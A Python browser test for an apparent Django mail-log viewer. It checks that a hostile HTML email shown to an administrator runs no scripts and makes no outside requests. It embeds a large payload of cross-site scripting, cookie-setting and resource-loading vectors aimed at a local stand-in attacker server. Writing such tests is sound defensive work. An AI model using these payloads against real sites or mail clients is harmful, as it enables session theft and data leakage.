"""A hostile message in a browser: none of its scripts run, and nothing is loaded for it."""

import contextlib
import socket
import threading
from collections.abc import Iterator

import pytest

from tests.cases import case
from tests.config.site import html_mail
from tests.conftest import signed_in
from tests.factories import make_admin
from tests.maillog.makers import finished

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


class Trap:
    """A server of the attacker that counts every connection."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        self.listening = socket.create_server(("127.0.0.1", 0))
        self.port = self.listening.getsockname()[1]
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while True:
            try:
                visitor, _ = self.listening.accept()
            except OSError:
                return
            with visitor, contextlib.suppress(OSError):
                visitor.settimeout(30)
                self.visits.append("connected")
                self.visits.append(visitor.recv(2000).decode("latin-1").split("\r\n")[0])
                visitor.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n")

    def close(self) -> None:
        self.listening.shutdown(socket.SHUT_RDWR)
        self.listening.close()
        self.thread.join()


@pytest.fixture
def trap() -> Iterator[Trap]:
    opened = Trap()
    yield opened
    opened.close()


OWN = "parent.document.title = document.title = 'owned'; document.body.dataset.owned = 'yes'; fetch('EVIL/script')"
HOSTILE = """
<html manifest="EVIL/manifest"><head>
<base href="EVIL/base/" target="_self">
<meta http-equiv="refresh" content="0; url=EVIL/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data:">
<meta http-equiv="set-cookie" content="sessionid=stolen">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="stylesheet" href="EVIL/sheet.css"><link rel="icon" href="EVIL/icon"><link rel="manifest" href="EVIL/m">
<link rel="preload" as="image" href="EVIL/preload"><link rel="prefetch" href="EVIL/prefetch">
<link rel="modulepreload" href="EVIL/module.js"><link rel="prerender" href="EVIL/prerender">
<LINK/rel="preconnect" href="EVIL"><link
rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL">
<link rel="preconnect" href="EVIL">
<script src="EVIL/script.js"></script><script>OWN</script><script type="module">OWN</script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["EVIL/speculation"]}]}</script>
<style>@import "EVIL/import.css"; @import url(EVIL/import2.css);
@font-face { font-family: f; src: url(EVIL/font) } * { font-family: f; cursor: url(EVIL/cursor), auto }
body { background: url("EVIL/background") } li { list-style-image: url(EVIL/list) }
p::before { content: url(EVIL/content) } input[value^="a"] { background: image-set(url(EVIL/set) 1x) }
</style></head>
<body background="EVIL/body" onload="OWN" onpageshow="OWN">
<img src="EVIL/pixel.gif" onerror="OWN" onload="OWN"><img src="//HOST/relative">
<img srcset="EVIL/set1 1x, EVIL/set2 2x">
<img src="relative.gif"><img src=x onerror=OWN><picture><source srcset="EVIL/picture"><img src="EVIL/p"></picture>
<svg onload="OWN"><script>OWN</script><image href="EVIL/svg"/><use href="EVIL/use#a"/>
<style>@import "EVIL/svg.css";</style>
<animate onbegin="OWN" attributeName="x"/><foreignObject><iframe src="EVIL/foreign"></iframe></foreignObject></svg>
<math><maction actiontype="statusline" xlink:href="javascript:OWN">x</maction></math>
<iframe src="EVIL/frame"></iframe><IFRAME/src="EVIL/frame2"></IFRAME><fencedframe config="EVIL/fenced"></fencedframe>
<iframe srcdoc="<script>OWN</script><img src='EVIL/srcdoc'>"></iframe>
<iframe src="javascript:OWN"></iframe><iframe src="data:text/html,<script>OWN</script>"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><applet code="EVIL/applet"></applet>
<video src="EVIL/video" poster="EVIL/poster" autoplay onerror="OWN"></video><audio src="EVIL/audio" autoplay></audio>
<table background="EVIL/table"><tr><td background="EVIL/cell" style="background: url(EVIL/style)">x</td></tr></table>
<input type="image" src="EVIL/input" autofocus onfocus="OWN"><details open ontoggle="OWN">x</details>
<marquee onstart="OWN">x</marquee><ul><li>x</ul><p>x</p>
<form id="f" action="EVIL/form"><input name="a" value="a"><button id="send">Send</button></form>
<form action="/account/logout/" method="post"><button id="out">Out</button></form>
<a id="self" target="_self" href="EVIL/self" ping="EVIL/ping">self</a><br>
<a id="top" target="_top" href="EVIL/top">top</a><br>
<a id="parent" target="_parent" href="EVIL/parent">parent</a><br>
<a id="blank" target="_blank" href="EVIL/blank">blank</a><br>
<a id="script" href="javascript:OWN">script</a><br><a id="plain" href="EVIL/plain">plain</a><br>
<a id="ours" target="_top" href="/account/logout/">ours</a><br><b id="shown">The end of the mail</b>
</body></html>
"""


class Reader:
    """An administrator who opens the message in a browser that records every response."""

    def __init__(self, new_context, origin: str, trap: Trap) -> None:
        evil = f"http://127.0.0.1:{trap.port}"
        html = HOSTILE.replace("OWN", OWN).replace("EVIL", evil).replace("HOST", f"127.0.0.1:{trap.port}")
        admin = make_admin()
        self.mail = finished("sent", mime=html_mail(html), actor=admin).pk
        self.origin, self.trap = origin, trap
        context = new_context()
        session = signed_in(admin).cookies["sessionid"].value
        context.add_cookies([{"name": "sessionid", "value": session, "url": origin}])
        self.page = context.new_page()
        self.page.set_default_timeout(120_000)
        self.answered: list[str] = []  # the browser also reports requests that the policy blocked
        self.dialogs: list[str] = []
        context.on("response", lambda response: self.answered.append(response.url))
        context.on("page", lambda page: self.dialogs.append("a window"))
        self.page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))

    def open(self, path: str) -> None:
        self.page.goto(f"{self.origin}{path}")
        self.page.wait_for_timeout(700)

    def check(self) -> None:
        """Check that nothing left the site, no window was opened, and the page is still the same."""
        assert self.trap.visits == []
        paths = {url.removeprefix(self.origin) for url in self.answered if not url.startswith("data:")}
        pages = {f"/log/{self.mail}/", f"/log/{self.mail}/preview/", "/favicon.ico"}
        assert not {path for path in paths - pages if not path.startswith("/static/")}
        assert self.dialogs == []
        assert "owned" not in self.page.title()


@pytest.fixture
def reader(new_context, live_server, trap):
    return Reader(new_context, live_server.url, trap)


def test_the_trap_catches_a_visitor(trap):
    with socket.create_connection(("127.0.0.1", trap.port)) as caller:
        caller.sendall(b"GET /pixel HTTP/1.1\r\n\r\n")
        caller.recv(100)
    assert trap.visits == ["connected", "GET /pixel HTTP/1.1"]


def test_looking_at_the_mail_fetches_and_runs_nothing(reader):
    reader.open(f"/log/{reader.mail}/")
    reader.check()
    frame = reader.page.frame_locator("iframe")
    assert frame.locator("#shown").text_content() == "The end of the mail"
    assert frame.locator("[data-owned]").count() == 0
    assert reader.page.context.cookies()[0]["value"] != "stolen"


def test_a_click_into_the_mail_leads_nowhere(reader):
    address = f"{reader.origin}/log/{reader.mail}/"
    for target in ("self", "top", "parent", "blank", "script", "plain", "ours", "send", "out"):
        with case(target):
            reader.page.goto(address)
            reader.page.frame_locator("iframe").locator(f"#{target}").click(force=True)
            reader.page.wait_for_timeout(300)
            reader.check()
            assert reader.page.url == address


def test_the_preview_alone_in_a_window_is_as_harmless(reader):
    reader.open(f"/log/{reader.mail}/preview/")
    reader.check()
    assert reader.page.locator("#shown").text_content() == "The end of the mail"
    assert reader.page.locator("[data-owned]").count() == 0
    for target in ("blank", "script", "plain", "send", "out"):
        with case(target):
            reader.page.locator(f"#{target}").click(force=True)
            reader.page.wait_for_timeout(100)
            reader.check()
